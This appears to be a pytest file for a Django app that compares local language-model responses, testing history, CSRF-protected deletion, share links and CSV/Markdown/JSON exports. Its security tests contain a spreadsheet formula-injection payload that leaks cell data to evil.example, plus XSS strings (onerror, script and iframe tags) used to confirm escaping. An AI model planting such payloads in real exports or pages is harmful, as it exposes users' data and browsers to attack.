"""History, read-only share links, exports, and the per-column states."""

import csv
import io

import pytest
from django.test import Client

from council.comparisons.models import Comparison, Response

pytestmark = pytest.mark.django_db


def client_for(user=None, **kwargs):
    client = Client(**kwargs)
    if user is not None:
        client.force_login(user)
    return client


@pytest.fixture
def comparison(alice, bundled):
    comparison = Comparison.objects.create(owner=alice, prompt="Name a <b>sea</b>", mode="fast")
    Response.objects.create(
        comparison=comparison, model=bundled["smollm2-135m-instruct"], mode="fast", status="done",
        text='The "Baltic", <script>x</script>', position=0,
        metrics={"prompt_tokens": 5, "completion_tokens": 9, "ttft_ms": 12.5, "decode_tokens_per_s": 100.0,
                 "total_ms": 90.0, "engine": "llama.cpp", "quantization": "Q4_1", "speculation": None},
    )
    Response.objects.create(comparison=comparison, model=bundled["gemma-3-270m"], mode="fast", status="failed",
                            error="The model ran out of memory.", position=1)
    return comparison


def test_history_lists_only_the_users_comparisons_and_searches_prompts(alice, bob, comparison):
    Comparison.objects.create(owner=alice, prompt="Something else", mode="fast")
    Comparison.objects.create(owner=bob, prompt="Bob's sea", mode="fast")
    html = client_for(alice).get("/history/").content.decode()
    assert "Name a &lt;b&gt;sea&lt;/b&gt;" in html and "Something else" in html and "Bob" not in html
    html = client_for(alice).get("/history/", {"q": "SEA"}).content.decode()
    assert "Name a &lt;b&gt;sea" in html and "Something else" not in html


def test_the_nav_links_to_history(alice):
    assert 'href="/history/"' in client_for(alice).get("/").content.decode()


def test_the_owner_deletes_a_comparison_with_a_csrf_protected_post(alice, comparison):
    client = client_for(alice, enforce_csrf_checks=True)
    assert client.post(f"/c/{comparison.id}/delete").status_code == 403  # no CSRF token
    assert client.get(f"/c/{comparison.id}/delete").status_code == 405
    page = client.get("/history/")
    token = page.cookies["csrftoken"].value if "csrftoken" in page.cookies else client.cookies["csrftoken"].value
    response = client.post(f"/c/{comparison.id}/delete", {"csrfmiddlewaretoken": token})
    assert response.status_code == 302 and not Comparison.objects.filter(id=comparison.id).exists()


def test_bob_cannot_delete_share_or_export_alices_comparison(bob, comparison):
    client = client_for(bob)
    for path in ("delete", "share", "unshare"):
        assert client.post(f"/c/{comparison.id}/{path}").status_code == 404
    for fmt in ("json", "md", "csv"):
        assert client.get(f"/c/{comparison.id}/export.{fmt}").status_code == 404
    assert Comparison.objects.filter(id=comparison.id, share_token=None).exists()


def test_a_share_link_works_logged_out_read_only_and_dies_when_revoked(alice, comparison):
    owner = client_for(alice)
    assert owner.post(f"/c/{comparison.id}/share").status_code == 302
    comparison.refresh_from_db()
    token = comparison.share_token
    assert len(token) >= 32
    assert f"/s/{token}/" in owner.get(f"/c/{comparison.id}/").content.decode()

    html = Client().get(f"/s/{token}/").content.decode()
    assert "data-response-id" in html and "The &quot;Baltic&quot;" in html and "<script>x" not in html
    assert "Stop" not in html.replace("Stopped", "") and "Regenerate" not in html and "ws-connect" not in html
    assert "hx-trigger" not in html  # finished: nothing polls
    assert Client().get(f"/s/{token}/export.json").json()["id"] == str(comparison.id)

    assert owner.post(f"/c/{comparison.id}/unshare").status_code == 302
    assert Client().get(f"/s/{token}/").status_code == 404
    assert Client().get(f"/s/{token}/export.csv").status_code == 404
    owner.post(f"/c/{comparison.id}/share")
    comparison.refresh_from_db()
    assert comparison.share_token != token


def test_an_unknown_share_token_is_404(db):
    assert Client().get("/s/not-a-token/").status_code == 404


def test_exports_in_json_markdown_and_csv(alice, comparison):
    client = client_for(alice)
    data = client.get(f"/c/{comparison.id}/export.json").json()
    assert data == client.get(f"/api/comparisons/{comparison.id}").json()

    response = client.get(f"/c/{comparison.id}/export.md")
    assert response["Content-Type"].startswith("text/markdown") and "attachment" in response["Content-Disposition"]
    md = response.content.decode()
    assert "> Name a &lt;b&gt;sea&lt;/b&gt;" in md and "## smollm2-135m-instruct (fast), done" in md
    assert "> Error: The model ran out of memory." in md

    rows = list(csv.DictReader(io.StringIO(client.get(f"/c/{comparison.id}/export.csv").content.decode())))
    assert list(rows[0]) == ["turn", "prompt", "model", "mode", "status", "prompt_tokens", "completion_tokens", "ttft_ms",
                             "decode_tokens_per_s", "total_ms", "engine", "quantization", "speculation",
                             "top1_agreement", "mean_kl", "mean_logprob", "first_divergence", "text"]
    assert rows[0]["text"] == 'The "Baltic", <script>x</script>' and rows[0]["decode_tokens_per_s"] == "100.0"
    assert rows[1]["status"] == "failed" and rows[1]["ttft_ms"] == ""
    assert client.get(f"/c/{comparison.id}/export.xml").status_code == 404


def test_columns_show_queue_position_failure_and_cancellation(alice, bob, bundled):
    model = bundled["gemma-3-270m"]
    older = Comparison.objects.create(owner=bob, prompt="first", mode="fast")
    Response.objects.create(comparison=older, model=model, mode="fast", status="queued")
    Response.objects.create(comparison=older, model=model, mode="fast", status="queued", position=1)
    mine = Comparison.objects.create(owner=alice, prompt="mine", mode="fast")
    Response.objects.create(comparison=mine, model=model, mode="fast", status="queued")
    Response.objects.create(comparison=mine, model=model, mode="fast", status="cancelled", text="half", position=1)
    Response.objects.create(comparison=mine, model=model, mode="fast", status="failed", error="Boom.", position=2)
    html = client_for(alice).get(f"/c/{mine.id}/").content.decode()
    assert "2 ahead in queue" in html
    assert 'data-status="cancelled"' in html and "Stopped; the answer above is partial." in html
    assert '<p class="error" role="alert">Boom.</p>' in html


def test_a_shared_comparison_still_running_refreshes_by_polling(alice, bundled):
    comparison = Comparison.objects.create(owner=alice, prompt="p", mode="fast")
    Response.objects.create(comparison=comparison, model=bundled["gemma-3-270m"], mode="fast", status="running")
    html = Client().get(f"/s/{comparison.share()}/").content.decode()
    assert 'hx-trigger="every 2s"' in html and "Stop" not in html


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_would_start_a_formula_are_text_also_through_a_share_link(alice, bundled, start):
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    comparison = Comparison.objects.create(owner=alice, prompt=formula, mode="fast")
    Response.objects.create(comparison=comparison, model=bundled["gemma-3-270m"], mode="fast", status="done",
                            text=formula, metrics={"decode_tokens_per_s": -1.5})
    token = comparison.share()
    for client, path in ((client_for(alice), f"/c/{comparison.id}/export.csv"), (Client(), f"/s/{token}/export.csv")):
        [row] = list(csv.DictReader(io.StringIO(client.get(path).content.decode())))
        assert row["prompt"] == row["text"] == "'" + formula
        assert row["decode_tokens_per_s"] == "-1.5"  # a number stays a number


def test_markdown_export_fences_model_output_so_its_html_is_never_rendered(alice, bundled):
    from markdown_it import MarkdownIt

    answer = "Here:\n<img src=x onerror=alert(1)>\n```\n<script>alert(2)</script>\n```\n````"
    comparison = Comparison.objects.create(owner=alice, prompt="<iframe src=//evil.example>", mode="fast")
    Response.objects.create(comparison=comparison, model=bundled["gemma-3-270m"], mode="fast", status="done",
                            text=answer, reasoning="<script>alert(3)</script>", error="<b>oops</b>")
    md = client_for(alice).get(f"/c/{comparison.id}/export.md").content.decode()
    assert answer in md  # shown as written
    rendered = MarkdownIt("commonmark").render(md)
    for tag in ("<img", "<script", "<iframe", "<b>"):
        assert tag not in rendered, rendered


def test_a_poll_of_a_shared_comparison_gets_the_columns_alone(alice, bundled):
    comparison = Comparison.objects.create(owner=alice, prompt="A prompt shown once", mode="fast")
    Response.objects.create(comparison=comparison, model=bundled["gemma-3-270m"], mode="fast", status="running")
    html = Client().get(f"/s/{comparison.share()}/", HTTP_HX_REQUEST="true").content.decode()
    assert 'id="columns"' in html and 'hx-trigger="every 2s"' in html
    assert "A prompt shown once" not in html and "<html" not in html
